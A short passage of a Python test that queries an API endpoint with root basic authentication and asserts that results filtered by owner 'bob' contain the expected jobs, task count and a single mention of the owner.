    document = requests.get(asked, {"owner": "bob"}, auth=("root", PASSWORD), timeout=60).json()["document"]
    assert [(row["jobs"], row["tasks"], row["owner"]) for row in document["categories"]] == [
        (["10", "11", "12"], 3, "bob")
    ]
    lines = requests.get(asked, {"form": "text"}, auth=("root", PASSWORD), timeout=60).json()["blocks"]
    assert json.dumps(lines).count("bob") == 1
